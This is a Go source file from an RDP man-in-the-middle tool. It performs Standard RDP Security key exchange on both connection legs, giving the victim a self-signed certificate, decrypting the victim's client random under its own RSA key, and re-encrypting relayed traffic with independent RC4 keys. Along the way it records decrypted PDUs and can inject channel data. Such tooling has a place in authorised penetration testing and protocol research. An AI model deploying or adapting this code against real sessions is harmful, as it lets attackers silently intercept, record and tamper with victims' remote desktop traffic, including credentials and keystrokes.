package mitm

import (
	"bytes"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"io"
	"math/big"
	"time"

	"github.com/GoFeGroup/rdpmitm/core"
	"github.com/GoFeGroup/rdpmitm/proto/fastpath"
	"github.com/GoFeGroup/rdpmitm/proto/gcc"
	"github.com/GoFeGroup/rdpmitm/proto/mcs"
	"github.com/GoFeGroup/rdpmitm/proto/security"
	"github.com/GoFeGroup/rdpmitm/proto/tpkt"
	"github.com/GoFeGroup/rdpmitm/proto/x224"
)

// rdpSecurityCommencement runs MS-RDPBCGR's RDP Security Commencement phase
// on both connection legs when negotiation() selected Standard RDP Security
// instead of TLS (spec.md §4.4): the MITM sends its own RSA-encrypted
// client random to the target exactly as a real client would, and receives
// the victim's the same way a real server would, deriving an independent
// RC4 session in each direction. A no-op when the legs are already on TLS.
func (s *Session) rdpSecurityCommencement() {
	if !s.nativeSecurity {
		return
	}
	s.commenceTargetSecurity()
	s.commenceVictimSecurity()
	s.log.Info("standard rdp security commenced on both legs", map[string]interface{}{
		"encryption_method": s.targetServerSecurity.EncryptionMethod,
	})
}

// commenceTargetSecurity plays the client half of the handshake toward the
// target: extract its public key from the certificate it sent in Basic
// Settings Exchange, make up a client random, and send it RSA-encrypted.
func (s *Session) commenceTargetSecurity() {
	targetPub, err := parseServerCertData(s.targetServerSecurity.ServerCertData)
	core.ThrowError(err)

	clientRandom := security.GenerateRandom()
	encrypted, err := security.EncryptClientRandom(targetPub, clientRandom)
	core.ThrowError(err)

	exchange := &security.ClientSecurityExchangePDU{EncryptedRandom: encrypted}
	body := new(bytes.Buffer)
	(&security.Header{Flags: security.SEC_EXCHANGE_PKT}).Write(body, false)
	body.Write(exchange.Serialize())

	req := mcs.NewSendDataRequest(s.targetUserId, s.ioChannelId)
	writeX224(s.target, func(w io.Writer) { x224.Write(w, req.Serialize(body.Bytes())) })

	keys := security.DeriveKeys(clientRandom, s.targetServerSecurity.ServerRandom, s.targetServerSecurity.EncryptionMethod, false)
	s.targetCrypter = security.NewRC4CrypterProxy()
	core.ThrowError(s.targetCrypter.SetKeys(keys))
	s.targetMacKey = keys.MacKey

	codec, err := fastpath.NewCodec(keys.EncryptKey, keys.DecryptKey)
	core.ThrowError(err)
	s.targetFastPathCodec = codec
}

// commenceVictimSecurity plays the server half toward the victim: read the
// Client Security Exchange PDU the real client sends in response to the
// certificate buildVictimServerSecurity handed it in Basic Settings
// Exchange, and decrypt the client random under the MITM's own RSA key.
func (s *Session) commenceVictimSecurity() {
	channelId, payload := readSendData(readX224Body(s.victim))
	core.ThrowIf(channelId != s.ioChannelId, errUnexpectedChannel{want: s.ioChannelId, got: channelId})

	r := bytes.NewReader(payload)
	hdr := &security.Header{}
	hdr.Read(r, false)
	core.ThrowIf(hdr.Flags&security.SEC_EXCHANGE_PKT == 0, errExpectedSecurityExchange{})

	exchange := &security.ClientSecurityExchangePDU{}
	exchange.Read(r)

	clientRandom, err := security.DecryptClientRandom(s.nativeRSAKey, exchange.EncryptedRandom)
	core.ThrowError(err)

	keys := security.DeriveKeys(clientRandom, s.victimServerRandom, s.victimEncryptionMethod, true)
	s.victimCrypter = security.NewRC4CrypterProxy()
	core.ThrowError(s.victimCrypter.SetKeys(keys))
	s.victimMacKey = keys.MacKey

	codec, err := fastpath.NewCodec(keys.EncryptKey, keys.DecryptKey)
	core.ThrowError(err)
	s.victimFastPathCodec = codec
}

// buildVictimServerSecurity generates this session's own RSA identity and
// returns the SC_SECURITY block the victim leg's Basic Settings Exchange
// response carries in place of the target's real one, so the victim's
// Client Security Exchange PDU encrypts against a key this MITM holds.
func (s *Session) buildVictimServerSecurity(encryptionMethod uint32) *gcc.ServerSecurityData {
	priv, chain := generateNativeSecurityIdentity()
	s.nativeRSAKey = priv
	s.victimServerRandom = security.GenerateRandom()
	s.victimEncryptionMethod = encryptionMethod

	return &gcc.ServerSecurityData{
		EncryptionMethod: encryptionMethod,
		EncryptionLevel:  2, // ENCRYPTION_LEVEL_CLIENT_COMPATIBLE, MS-RDPBCGR §5.3.1
		ServerRandom:     s.victimServerRandom,
		ServerCertData:   chain.Serialize(),
	}
}

// generateNativeSecurityIdentity creates a throwaway RSA key and a
// self-signed certificate chain to present to the victim. MS-RDPELE
// requires at least two cert blobs for the X.509 chain variant; since this
// MITM only ever presents one identity (there is no real CA relationship
// to model), the same DER is repeated as both blobs rather than standing
// up an actual root/leaf pair.
func generateNativeSecurityIdentity() (*rsa.PrivateKey, *mcs.X509CertificateChain) {
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	core.ThrowError(err)

	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		Subject:      pkix.Name{CommonName: "rdpmitm"},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().Add(24 * time.Hour),
		KeyUsage:     x509.KeyUsageDigitalSignature | x509.KeyUsageKeyEncipherment,
		ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	core.ThrowError(err)

	chain := &mcs.X509CertificateChain{
		NumCertBlobs: 2,
		CertBlobArray: []mcs.CertBlob{
			{CbCert: uint32(len(der)), AbCert: der},
			{CbCert: uint32(len(der)), AbCert: der},
		},
	}
	return key, chain
}

// parseServerCertData extracts an RSA public key from a SC_SECURITY
// block's raw certificate bytes. Only the X.509 certificate chain variant
// (MS-RDPELE §2.2.1.4.3.1.1) is understood; the older proprietary
// certificate format (signed under Microsoft's fixed embedded key) is not
// implemented, since nothing in this MITM needs to forge it and every peer
// it talks to on the victim leg is this same MITM, which always emits the
// X.509 variant.
func parseServerCertData(certData []byte) (*rsa.PublicKey, error) {
	chain := &mcs.X509CertificateChain{}
	err := core.Try(func() { chain.Read(bytes.NewReader(certData)) })
	if err != nil {
		return nil, errUnsupportedCertificateFormat{cause: err}
	}
	return chain.PublicKey()
}

// readSlowPathSendData extracts the MCS channel id and the security-layer
// payload (security header + app data) from a raw slow-path frame, the
// native-security counterpart to peekChannelFrame: it doesn't tolerate
// parse failure, since relaySlowPath's core.Try wraps the whole call.
func readSlowPathSendData(frame []byte) (channelId uint16, payload []byte) {
	x224Body := tpkt.Read(bytes.NewReader(frame))
	mcsBody := x224.Read(bytes.NewReader(x224Body))
	return readSendData(mcsBody)
}

// relayNativeSecuritySlowPath decrypts a slow-path frame under the
// originating leg's session keys, runs the usual channel taps against the
// plaintext, then re-signs and re-encrypts it under the destination leg's
// independently derived keys before forwarding — spec.md §8 scenario 3.
func (s *Session) relayNativeSecuritySlowPath(frame []byte, dst *core.Stream, fromVictim bool) {
	channelId, payload := readSlowPathSendData(frame)

	srcCrypter, dstCrypter := s.targetCrypter, s.victimCrypter
	dstMacKey := s.victimMacKey
	if fromVictim {
		srcCrypter, dstCrypter = s.victimCrypter, s.targetCrypter
		dstMacKey = s.targetMacKey
	}

	flags, plaintext := decryptSecured(srcCrypter, payload)
	s.rec.RecordSlowPathPDU(plaintext)

	if channelId != s.ioChannelId {
		if ch, present := s.channels[channelId]; present {
			if fromVictim {
				ch.OnClientToServerChunk(plaintext)
			} else if inject, wantInject := ch.OnServerToClientChunk(plaintext); wantInject {
				s.injectChannelData(channelId, inject)
			}
		}
	}

	outBody := encryptSecured(dstCrypter, dstMacKey, flags, plaintext)
	if fromVictim {
		req := mcs.NewSendDataRequest(s.targetUserId, channelId)
		writeX224(dst, func(w io.Writer) { x224.Write(w, req.Serialize(outBody)) })
	} else {
		ind := mcs.NewServerSendDataIndication(s.victimUserId, channelId)
		writeX224(dst, func(w io.Writer) { x224.Write(w, ind.Serialize(outBody)) })
	}
}

// reencryptFastPath decrypts a fast-path frame under srcCodec (nil if that
// leg's traffic is unencrypted) and re-encrypts the same plaintext under
// dstCodec, returning both the wire-ready frame and the plaintext for
// recording.
func (s *Session) reencryptFastPath(frame []byte, srcCodec, dstCodec *fastpath.Codec) (reencrypted, plaintext []byte, err error) {
	var fp *fastpath.FastPathData
	parseErr := core.Try(func() { fp = fastpath.Read(bytes.NewReader(frame)) })
	if parseErr != nil {
		return nil, nil, parseErr
	}

	plaintext = fp.Data
	if fp.Header.EncryptionFlags&fastpath.EncryptionFlagEncrypted != 0 {
		if srcCodec == nil {
			return nil, nil, errFastPathNotKeyed{}
		}
		plaintext = srcCodec.Decrypt(fp.Data)
	}

	buf := new(bytes.Buffer)
	if dstCodec != nil {
		fastpath.WriteEncrypted(buf, dstCodec.Encrypt(plaintext))
	} else {
		fastpath.Write(buf, plaintext)
	}
	return buf.Bytes(), plaintext, nil
}

// decryptSecured parses a security header off payload (MS-RDPBCGR
// §2.2.8.1.1.2.1) and returns its flags plus the plaintext body, decrypting
// with crypter when SEC_ENCRYPT is set.
func decryptSecured(crypter *security.RC4CrypterProxy, payload []byte) (flags uint16, plaintext []byte) {
	r := bytes.NewReader(payload)
	hdr := &security.Header{}
	hdr.Read(r, false)
	if hdr.Flags&security.SEC_ENCRYPT != 0 {
		core.ReadLE(r, &hdr.Signature)
	}
	body := core.ReadAllRemaining(r)
	if hdr.Flags&security.SEC_ENCRYPT != 0 {
		body = crypter.Decrypt(body)
	}
	return hdr.Flags, body
}

// encryptSecured frames plaintext behind a security header carrying flags,
// signing and encrypting it with crypter/macKey when flags carries
// SEC_ENCRYPT.
func encryptSecured(crypter *security.RC4CrypterProxy, macKey []byte, flags uint16, plaintext []byte) []byte {
	hdr := &security.Header{Flags: flags}
	buf := new(bytes.Buffer)
	if flags&security.SEC_ENCRYPT != 0 {
		hdr.Signature = security.ComputeMAC(macKey, plaintext)
		hdr.Write(buf, true)
		buf.Write(crypter.Encrypt(plaintext))
	} else {
		hdr.Write(buf, false)
		buf.Write(plaintext)
	}
	return buf.Bytes()
}

type errUnsupportedCertificateFormat struct{ cause error }

func (e errUnsupportedCertificateFormat) Error() string {
	return "mitm: unsupported server certificate format: " + e.cause.Error()
}

func (e errUnsupportedCertificateFormat) Unwrap() error { return e.cause }

type errFastPathNotKeyed struct{}

func (errFastPathNotKeyed) Error() string {
	return "mitm: encrypted fast-path frame arrived with no fast-path codec keyed"
}
